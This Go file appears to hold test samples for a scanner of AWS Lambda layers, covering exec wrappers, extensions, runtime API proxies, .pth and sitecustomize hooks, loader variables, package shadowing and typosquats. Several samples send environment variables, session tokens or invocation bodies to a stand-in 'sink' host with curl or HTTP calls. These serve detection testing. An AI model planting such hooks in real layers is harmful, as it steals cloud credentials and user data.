package layers

// running are attacks by what the runtime starts: wrappers, extensions,
// bootstraps, and files that interpreters run by themselves.
func running() []Sample {
	const wrapper = "AWS_LAMBDA_EXEC_WRAPPER=/opt/start"
	curl := "env | curl -s -d @- https://" + sink + "/\n"
	out := []Sample{
		// T1: a wrapper that the function's configuration names.
		one("T1/python/plain", py, ids("exec-wrapper"),
			File{"start", "#!/bin/bash\n" + curl + "exec \"$@\"\n", 0o755}).with(wrapper),
		one("T1/node/exports", node, ids("exec-wrapper", "loader-variable"),
			File{"start", "#!/bin/sh\nexport NODE_OPTIONS=\"--require /opt/hook.js\"\nexec \"$@\"\n", 0o755},
			File{"hook.js", "require('https').get('https://" + sink + "/?k=' + process.env.AWS_SESSION_TOKEN)\n", 0}).with(wrapper),
		one("T1/java/obfuscated", "java21", ids("exec-wrapper"),
			File{"start", "#!/bin/sh\neval \"$(echo ZWNobyBpbmVydA== | base64 -d)\"\nexec \"$@\"\n", 0o755}).with(wrapper),
		// T2: an external extension.
		one("T2/any/script", py, ids("external-extension"),
			File{"extensions/telemetry", "#!/bin/sh\nwhile true; do cat /proc/*/environ | curl -s -d @- https://" + sink + "; sleep 60; done\n", 0o755}),
		one("T2/any/python", node, ids("external-extension"),
			File{"extensions/metrics", "#!/usr/bin/env python3\nimport os, urllib.request\nurllib.request.urlopen('https://" + sink + "', data=str(dict(os.environ)).encode())\n", 0o755}),
		one("T2/any/obfuscated", "provided.al2023", ids("external-extension"),
			File{"extensions/.x", "#!/bin/bash\nc=$(echo aW5lcnQ= | base64 -d); bash -c \"$c\"\n", 0o644}),
		// T3: a proxy in front of the runtime API.
		one("T3/python/plain", py, ids("runtime-api-proxy"),
			File{"python/proxy.py", "import http.server, os, urllib.request\napi = os.environ['AWS_LAMBDA_RUNTIME_API']\nclass H(http.server.BaseHTTPRequestHandler):\n    def do_GET(self):\n        r = urllib.request.urlopen('http://' + api + '/2018-06-01/runtime/invocation/next')\n        body = r.read()\n        urllib.request.urlopen('https://" + sink + "', data=body)\n        self.wfile.write(body)\nos.environ['AWS_LAMBDA_RUNTIME_API'] = '127.0.0.1:9009'\nhttp.server.HTTPServer(('127.0.0.1', 9009), H).serve_forever()\n", 0}),
		one("T3/wrapper/exports", node, ids("runtime-api-proxy", "exec-wrapper"),
			File{"start", "#!/bin/sh\n/opt/proxy &\nexport AWS_LAMBDA_RUNTIME_API=127.0.0.1:9009\nexec \"$@\"\n", 0o755},
			File{"proxy", "#!/usr/bin/env node\nrequire('http').createServer((q, s) => s.end()).listen(9009)\n", 0o755}).with(wrapper),
		one("T3/node/obfuscated", node, ids("runtime-api-proxy"),
			File{"nodejs/node_modules/rt/index.js", "const h = require('http'); const k = ['AWS_LAMBDA', 'RUNTIME_API'].join('_');\nconst up = process.env[k]; process.env[k] = '127.0.0.1:9009';\nh.createServer((q, s) => { h.get('http://' + up + '/2018-06-01/runtime/invocation/next', r => r.pipe(s)) }).listen(9009);\n", 0},
			File{"nodejs/node_modules/rt/package.json", `{"name":"rt","version":"1.0.0"}`, 0}),
		// T4: .pth files run at start.
		one("T4/python/plain", py, ids("pth-code"), File{"python/zz.pth", "import os; os.system('id')\n", 0}),
		one("T4/python/site-packages", "python3.11", ids("pth-code"),
			File{"python/lib/python3.11/site-packages/hook.pth", "import hook\n", 0},
			File{"python/lib/python3.11/site-packages/hook.py", "import os, urllib.request\nurllib.request.urlopen('https://" + sink + "', data=repr(dict(os.environ)).encode())\n", 0}),
		one("T4/python/obfuscated", py, ids("pth-code"),
			File{"python/a.pth", "import base64;exec(base64.b64decode('cGFzcw=='))\n", 0}),
		// T5: sitecustomize, which PYTHONPATH makes effective.
		one("T5/python/plain", py, ids("site-customize"),
			File{"python/sitecustomize.py", "import os\nprint(os.environ.get('AWS_SESSION_TOKEN', '')[:0])\n", 0}).with("PYTHONPATH=/opt/python"),
		one("T5/python/usercustomize", py, ids("site-customize"),
			File{"extra/usercustomize.py", "import socket\nsocket.create_connection(('" + sink + "', 443))\n", 0}).with("PYTHONPATH=/opt/extra"),
		one("T5/python/obfuscated", "python3.9", ids("site-customize"),
			File{"python/sitecustomize/__init__.py", "exec(bytes.fromhex('70617373'))\n", 0}).with("PYTHONPATH=/opt/python:/var/task"),
		// T9: variables of loaders.
		one("T9/node/options", node, ids("loader-variable"), File{"hook.js", "process.on('exit', () => 0)\n", 0}).with("NODE_OPTIONS=--require /opt/hook.js"),
		one("T9/java/agent", "java17", ids("loader-variable"),
			File{"java/lib/agent.jar", string(Zip(File{"META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nPremain-Class: a.Agent\n", 0}, File{"a/Agent.class", "\xca\xfe\xba\xbe\x00\x00\x00\x41", 0})), 0}).with("JAVA_TOOL_OPTIONS=-javaagent:/opt/java/lib/agent.jar"),
		one("T9/any/preload", py, ids("loader-variable"), File{"lib/x.so", "\x7fELF\x02\x01\x01", 0o755}).with("LD_PRELOAD=/opt/lib/x.so"),
		one("T9/dotnet/hook", "dotnet8", ids("loader-variable"), File{"hook.dll", "MZ", 0}).with("DOTNET_STARTUP_HOOKS=/opt/hook.dll"),
		one("T9/ruby/opt", "ruby3.3", ids("loader-variable"), File{"hook.rb", "puts 1\n", 0}).with("RUBYOPT=-r/opt/hook"),
		one("T9/any/proxy", node, ids("loader-variable"), File{"ca.pem", "-----BEGIN CERT" + "IFICATE-----\n", 0}).with("HTTPS_PROXY=http://"+sink+":3128", "NODE_EXTRA_CA_CERTS=/opt/ca.pem"),
		// T10: fills gaps in PATH or the library path, or shadows when the environment says so.
		one("T10/any/path", py, ids("path-shadow"), File{"bin/aws", "#!/bin/sh\nexec true\n", 0o755}).with("PATH=/opt/bin:/usr/bin:/bin"),
		one("T10/any/library-path", py, ids("path-shadow"), File{"lib/libssl.so.3", "\x7fELF\x02\x01\x01", 0o755}).with("LD_LIBRARY_PATH=/opt/lib:/lib64"),
		// T11: a bootstrap for custom runtimes.
		one("T11/provided/plain", "provided.al2023", ids("custom-bootstrap"), File{"bootstrap", "#!/bin/sh\nexec true\n", 0o755}).calls("", File{"main.sh", "true\n", 0}),
		one("T11/provided/al2", "provided.al2", ids("custom-bootstrap"), File{"bootstrap", "\x7fELF\x02\x01\x01", 0o755}),
		one("T11/provided/obfuscated", "provided.al2023", ids("custom-bootstrap"), File{"bootstrap", "#!/bin/sh\neval \"$(printf '\\164\\162\\165\\145')\"\n", 0o755}),
		// T12: the handler is a module of the layer.
		one("T12/python/plain", py, ids("handler-in-layer"), File{"python/shim.py", "def handler(event, context):\n    return event\n", 0}).calls("shim.handler", File{"app.py", "def handler(e, c): return 1\n", 0}),
		one("T12/node/plain", node, ids("handler-in-layer"), File{"nodejs/node_modules/shim/index.js", "exports.handler = async e => e\n", 0}, File{"nodejs/node_modules/shim/package.json", `{"name":"shim","version":"1.0.0","main":"index.js"}`, 0}).calls("shim.handler", File{"app.js", "exports.handler = async () => 1\n", 0}),
	}
	return out
}

// searching are attacks by what wins on a search path.
func searching() []Sample {
	return []Sample{
		// T6: a package of the runtime or of another layer.
		one("T6/python/boto3", py, ids("shadowed-package"), File{"python/boto3/__init__.py", "def client(*a, **k):\n    raise RuntimeError\n", 0}),
		one("T6/python/urllib3", py, ids("shadowed-package"), File{"python/lib/python3.12/site-packages/urllib3/__init__.py", "x = 1\n", 0}),
		two("T6/python/other-layer", py, ids("shadowed-package"),
			[]File{{"python/requests/__init__.py", "honest = 1\n", 0}, {"python/requests-2.32.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: requests\nVersion: 2.32.0\n", 0}},
			[]File{{"python/requests/__init__.py", "import os\n", 0}}),
		// T7: a module of the standard library that is not loaded yet.
		one("T7/python/csv", py, ids("shadowed-stdlib"), File{"python/csv.py", "import os\n", 0}),
		one("T7/python/package", "python3.9", ids("shadowed-stdlib"), File{"python/sqlite3/__init__.py", "import os\n", 0}),
		one("T7/python/json-by-path", py, ids("shadowed-stdlib"), File{"python/json.py", "import os\n", 0}).with("PYTHONPATH=/opt/python"),
		// T8: Node's search path.
		one("T8/node/sdk", node, ids("shadowed-package"), File{"nodejs/node_modules/@aws-sdk/client-s3/index.js", "exports.S3Client = class {}\n", 0}, File{"nodejs/node_modules/@aws-sdk/client-s3/package.json", `{"name":"@aws-sdk/client-s3","version":"3.0.0"}`, 0}),
		one("T8/node/sdk-v2", "nodejs16.x", ids("shadowed-package"), File{"nodejs/node16/node_modules/aws-sdk/index.js", "module.exports = {}\n", 0}, File{"nodejs/node16/node_modules/aws-sdk/package.json", `{"name":"aws-sdk","version":"2.0.0"}`, 0}),
		// T13: Java's class path.
		one("T13/java/first", "java21", ids("java-class-shadow"),
			File{"java/lib/aaa-patch.jar", string(Zip(File{"org/acme/Auth.class", "\xca\xfe\xba\xbe\x00\x00\x00\x41 patched", 0})), 0},
			File{"java/lib/acme.jar", string(Zip(File{"org/acme/Auth.class", "\xca\xfe\xba\xbe\x00\x00\x00\x41", 0})), 0}),
		one("T13/java/service", "java17", ids("java-class-shadow"),
			File{"java/lib/zz.jar", string(Zip(File{"META-INF/services/javax.net.ssl.SSLContextSpi", "a.Spi\n", 0}, File{"a/Spi.class", "\xca\xfe\xba\xbe\x00\x00\x00\x41", 0})), 0}),
		// T14: Ruby's library path.
		one("T14/ruby/stdlib", "ruby3.3", ids("shadowed-stdlib"), File{"ruby/lib/json.rb", "module JSON; end\n", 0}),
		one("T14/ruby/net", "ruby3.2", ids("shadowed-stdlib"), File{"ruby/lib/net/http.rb", "module Net; end\n", 0}),
		// T24: one file of a published layer changed.
		baseline("T24/python/changed", py, ids("baseline-drift"),
			[]File{{"python/acme/a.py", "x = 1\n", 0}, {"python/acme/b.py", "y = 1\n", 0}},
			[]File{{"python/acme/a.py", "x = 1\nimport os\n", 0}, {"python/acme/b.py", "y = 1\n", 0}}),
		baseline("T24/any/extension-added", py, ids("baseline-drift", "external-extension"),
			[]File{{"python/acme/a.py", "x = 1\n", 0}},
			[]File{{"python/acme/a.py", "x = 1\n", 0}, {"extensions/x", "#!/bin/sh\n", 0o755}}),
		// T27: an import of the function that only a layer answers.
		one("T27/python/typo", py, ids("gap-fill"), File{"python/reqeusts/__init__.py", "import os\n", 0}).calls("app.handler", File{"app.py", "import reqeusts\ndef handler(e, c): return reqeusts.x\n", 0}),
		one("T27/node/typo", node, ids("gap-fill"), File{"nodejs/node_modules/exprress/index.js", "module.exports = 1\n", 0}, File{"nodejs/node_modules/exprress/package.json", `{"name":"exprress","version":"1.0.0"}`, 0}).calls("app.handler", File{"app.js", "const e = require('exprress'); exports.handler = async () => e\n", 0}),
	}
}

// two is a sample of two layers.
func two(name, runtime string, want []string, first, second []File) Sample {
	s := one(name, runtime, want, second...)
	s.Layers = [][]byte{Zip(first...), Zip(second...)}
	return s
}

// baseline is a sample with an earlier version.
func baseline(name, runtime string, want []string, before, after []File) Sample {
	s := one(name, runtime, want, after...)
	s.Baseline = Zip(before...)
	return s
}
